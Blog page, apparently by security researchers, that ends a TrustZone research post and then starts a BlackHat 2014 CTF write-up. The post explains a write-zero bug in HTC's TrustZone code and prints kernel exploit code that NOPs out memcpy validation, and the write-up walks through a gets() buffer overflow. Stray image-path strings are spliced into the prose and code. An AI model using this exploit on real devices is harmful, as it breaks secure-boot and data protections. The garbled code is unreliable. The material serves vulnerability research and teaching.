    return -1;if (!write_flag) {
    if (item_id == 37) {
      if (g_flag > 0) {
        memcpy(addr, g_item_37, len);

HTC uses similar bounds checking in a few places. This check tries to verify if the start and stop addresses are in between 0x2A000000 and 0x2A03F000. There are multiple problems with this:
  • It's only checking against one range, where QC's code checks against 12.
  • What happens if the length value is really big? (Answer: it overflows and wraps around under 0x2A03F000, bypassing this check, but it's ugly and influences a lot more than is ideal.)
  • This address range is supposed to be the TZ code and data itself, but someone forgot to update the ceiling, because the TZ code extends past 0x2A03F000 due to large amounts of DRM code.
In any event, that one is a pain to exploit, and there are others, so let's move on.

[tzbsp_oem_discretix, memory write]

int __tzbsp_oem_discretix(struct_p * s, size_t len) {
  if (len != 0x14) {
    return -16;
  s->status = g_fs_status; // *(int *)(s + 16) = g_fs_status

Hey, not everyone validates their input! And check that out, an overwrite of s->status (s + 16) with whatever is stored at 0x2A02BC80 (g_fs_status).

We later determined this value was zero in every case we cared about, so we can call it a write zero primitive. Under the hood, it is using the ARM STR instruction, so it has to be 4-byte aligned, but is otherwise very flexible.

[tzbsp_oem_memcpy, why do you exist?]

#define IS_TZ_MEMORY(x) (x >= 0x2A000000 && x < 0x2B000000)
#define CONTAINS_TZ_MEMORY(x, len) (x < 0x2A000000 && (x + len) >= 0x2B000000)

signed int tzbsp_oem_memcpy(void * dst, void * src, uint32_t len)
  uintptr_t dst_end   = dst + len - 1;
  uint32_t copying_to_tz   = CONTAINS_TZ_MEMORY(dst, len) || IS_TZ_MEMORY(dst);
  uint32_t copying_from_tz = CONTAINS_TZ_MEMORY(src, len) || IS_TZ_MEMORY(src);

  if ( !is_service_enabled(20) )
    return -4;
  if (copying_to_tz && copying_from_tz) {
    return -1;
  if(copying_to_tz && dst < 0x2A03F000) {
    return -1;

  if ( dword_2A02BAC8 > 1u ) {
    if (dst < 0x88AF0000 && dst_end >= 0x88AF1140) {
      return -16;
    if ((dst_end + 0x77510000) < 0x1140 || (dst + 0x77510000) < 0x1140) {
      return -16;
    if (src != 0x88AF0000) {
      return -2;
    if (len != 0x1140) {
      return -17;
  memcpy(dst, src, len);
  invalidate_data_cache(dst, len);
  return 0;

In this pseudocode, we can see some address validation (heh, no comment), checking a flag to perform further validation, etc. At the very end, we have:

  memcpy(dst, src, len);
  invalidate_data_cache(dst, len);
  return 0;

So if we can get there, we have a fully controlled memcpy(). But how can we do that?00 00                        MOV r0, r0         ; nop in thumb mode
00 00 00 00                  ANDEQ r0, r0, r0   ; nop in arm

A null write is a NOP equivalent in both ARM and thumb mode, if you overwrite code. And surely that isn't RWX, is it? Well, apparently so.

ROM:2A003278                 PUSH            {R3-R7,LR}
ROM:2A00327A                 MOV             R4, R0
ROM:2A00327C                 MOV             R3, R1
ROM:2A00327E                 MOV             R5, R2

// validation, nop'd out

ROM:2A0033EC                 MOV             R1, R3ROM:2A0033EE                 MOV             R0, R4
ROM:2A0033F0                 BLX             memcpy
ROM:2A0033F4                 MOV             R1, R5
ROM:2A0033F6                 MOV             R0, R4
ROM:2A0033F8                 BLX             invalidate_data_cache
ROM:2A0033FC                 MOVS            R0, #0
ROM:2A0033FE                 POP             {R3-R7,PC}
ROM:2A0033FE ; End of function tzbsp_oem_memcpy

Using the write zero primitive on the address range from 0x2A003280 to 0x2A0033E8 nops out all validation, allowing you to memcpy in and out of secure memory as desired.

This memcpy can be used to export all data out of secure memory, copy in your own shellcode, overwrite QC's knowledge of where secure and insecure code resides, and anything else you need. Boom!

The exploit code is shown below, utilizing this memcpy to overwrite the g_disable_bits bitmask with 0xFFFFFFFF to turn on all services. For simplicity, the call_svc function is not included, but it is merely a wrapper around a smc call that sets up the scm_command structure. It takes in the SCM function identifier, the argument count, and then that number of arguments.

  #define TZ_MEMCPY_NOP_START (0x2A003280)
  #define TZ_MEMCPY_NOP_STOP  (0x2A0033E8)
  #define TZ_HTC_DISABLE_BITS (0x2A02BAC4)

  #define TZ_HTC_OEM_MEMCPY_ID (0x3f814)
  #define WRITE_ZERO(x) call_svc(0x3f81b, 3, 0x0, x- 0x10, 0x14);

  // allocate our version of the g_disable_bits and set to 0xffffffff (all enabled)
  int * val = kzalloc(4, GFP_KERNEL);
  val[0] = 0xffffffff;

  // NOP out all validation in tzbsp_oem_memcpy
  for (i = TZ_MEMCPY_NOP_START ; i <= TZ_MEMCPY_NOP_STOP ; i+=4) {
    if ((i %4) != 0) {
      printk("[-] [0x%x] INVALID NOP...MUST BE 4 BYTE ALIGNED!\n", i);

  // use memcpy to enable all the other functions (unnecessary but fun)
  call_svc(TZ_HTC_OEM_MEMCPY_ID, 3, TZ_HTC_DISABLE_BITS, virt_to_phys(val), 4);


[So What?]

We've shown a pathway for gaining arbitrary code execution within TrustZone, but, in fairness to Qualcomm, this specific exploit is limited to HTC devices and caused by code HTC added. However, it's a great exemplar of how just one, terrible, and obvious write zero vulnerability can lead to the complete compromise of TrustZone. And due to TrustZone's architecture, passing physical buffers back and forth, this class of write vulnerability is the most common and simplest vulnerability you're going to find. So to summarize, write vulns pop up like mushrooms from this fertileground, and write vulns can really ruin your day.

To put it another way, why does a mistake in discretix (dealing with DRM functionality) have the ability to nuke secure boot? This seems like a dangerous idea, and is what we meant when we started this all off with the claim that the inclusion of bad, complex code provides a net reduction in real world security for the user. And we're ragging on DRM code here because that's where the vulnerability we discussed was found, but TZ does not allow for the inclusion of imperfect code, anywhere. And imperfect code abounds.

Given the financial drivers, we don't expect a lot of this to change, but we're hopeful we'll one day see a trend towards protecting the user from malware over protecting media companies from users.

In conclusion, we have given a peek behind the trusted veil to show you a piece of how everything works, as well as a few pointers along the way to get you started on your own research.

Hope you enjoyed our travels. Talk to you again soon.Go forth and 0day,
n & c

Thursday, July 24

Atredis BlackHat 2014 Contest After Action Report

<Trigger warning: spoilers ahoy! If you’re still playing and don’t want to read it, STOP NOW!>

We had an extra BlackHat pass lying around this year so decided to play a little game to give it away. We figured we’d shoot for a pretty easy challenge, given that we’re so close to the actual conference, so intentionally did a few things to make it easier on you. This is my explanation of how I’d have gone about the challenge, with a few notes along the way about what’s going on under the hood.

Next year, we’ll make it a lot harder, and release it in ~April so people can convince their bosses to buy them cheap airfare to Vegas.

The first three correct answers came in at 1h28m, 1h51m, and 2h00m. Congrats to Cloudchaser, steponequit, and anon!

So, on to the binaries.

When you first download the file at the link, you receive a simple PDF, Contest.pdf.

But wait, there’s more!

The thing with the PDF file format is that it’s extremely forgiving. Its contents go between a header in the first few bytes until it reaches a %%EOF, and will happily allow garbage to be appended to the end.

Conversely, ZIP keeps its “header” at the end of the file, and the standard unzip utility will ignore garbage in front of the real one, so you can simply combine the two files together and readersfor both PDF and ZIP fileformats will be (mostly) happy.

[Aside: you can stuff the ZIP file in a real PDF object trailing after the EOF marker and gain full PDF compliance, like the PoC||GTFO’s PDFs which are simultaneously ZIPs, PDFs, Truecrypt binaries, Angelic loot fairies, and will even make you a sandwich. Likewise, I’m pretty sure you can tailor the ZIP headerfooter to tell it at what offset the actual ZIP file starts, but #lazy. We didn’t mess with modifying the PDF or ZIP files because they worked fine, other than the warning message shown above in unzip.]

On another note, some folks ran binwalk on the PDF and found the .zip appended to it that way. Not a bad idea.

Yeah yeah, a very simple stage 0, so simple I hesitate to call it anything other than our marketing guy’s attempt to make you look at our logo. (But what a pretty logo it is!) Before I digress too much further, let’s move on.

[stage 1]
Ok, so now we have this new file, bouncilicious. What is it?

Since we’re pretty sure we’re working with a Linux binary, let’s go ahead and switch over to Linux and run it to see what’s up.

So it echoes your favorite song in the world, takes some input, and ends. Is this a super easy challenge that has a ridiculous buffer overflowin it?

Why yes, yes it is! Let’s load it into GDB and take a look.

OK, so we immediately have control of EIP (and EBP).When we ran file, above, it told us the binary still had symbols in it, so what are those?

So either this binary only has three functions in it or the symbols for all the rest were stripped out. The three functions with symbols are blackhat, goto_blackhat, and main.

Huh, I want to goto_blackhat. Do you want to goto blackhat? What happens if we just try to go to it, via gdb? (Or look up its address and stuff it in our input string.)

OK, that naïve idea didn’t work. Let’s back up and take a look at those functions whose symbols weren’t stripped.Wow, the assembly in these things is so clean. It’s almost like someone disabled all gcc optimization to make it easily readable. That someone must be a nice guy, or a guy I hate, because he made this too easy.

Here, we have main loading some variables on the stack and making a call to mmap. IDA helpfully told us its args, so we know it’s mmap’ing a 0x1000 byte region near 0x24242424 (we’re having mmap automatically page align for us) with some flags.

Assuming mmap doesn’t fail, it goes here:

Which copies 0x13 bytes from goto_blackhat to the value stored in EAX, which was 0x24242424 (“$$$$”). OK, so we know that goto_blackhat is copied to 0x24242424. Let’s save that knowledge for later.

Looking at sub_0804A9FA we can see _gets is called with absolutely no checking, and an overflow occurs.
.text:0804A9FA                 push    ebp
.text:0804A9FB                 mov     ebp, esp
.text:0804A9FD                 sub     esp, 28h
.text:0804AA00                 mov     dword ptr [esp], offseta31myoILlTellYo ; "\x1B[31mYo, I'll tell you what I want, "...
.text:0804AA07                 call    _printf
.text:0804AA0C                 lea     eax, [ebp+s]
.text:0804AA0F                 mov     [esp], eax      ; s.text:0804AA12                 call    _gets
.text:0804AA17                 leave
.text:0804AA18                 retn
[Note: I think one solver didn’t notice the BOF and just patched the binary to bounce everywhere needed in the binary to solve this challenge. Word.]

So let’s take a look at the function that was copied to 0x24242424.


Here, we can see it simply loads the address for blackhat and jumps to it. Moving onwards…


And so now we land at blackhat, which has this check in the first chunk of code:
<snipped: prologue, set up the stack>
<snipped: call a couple of functions>
<snipped: load some strings into variables>

.text:0804A8F1                 mov     eax, ebp
.text:0804A8F3                 add     eax, 4
.text:0804A8F6                 mov     eax, [eax]
.text:0804A8F8                 cmp     eax, 24242424h
.text:0804A8FD                 jz      short loc_804A917
.text:0804A8FF                 mov     dword ptr [esp], offset s ; "Oops, that's not the money shot! You ne"...
.text:0804A906                 call    _puts
.text:0804A90B                 mov     dword ptr [esp], 1 ; status
.text:0804A912                 call    _exit
This is the part of the code that implements the error message shown above. Here, don’t scroll back up, I’ll paste it again:

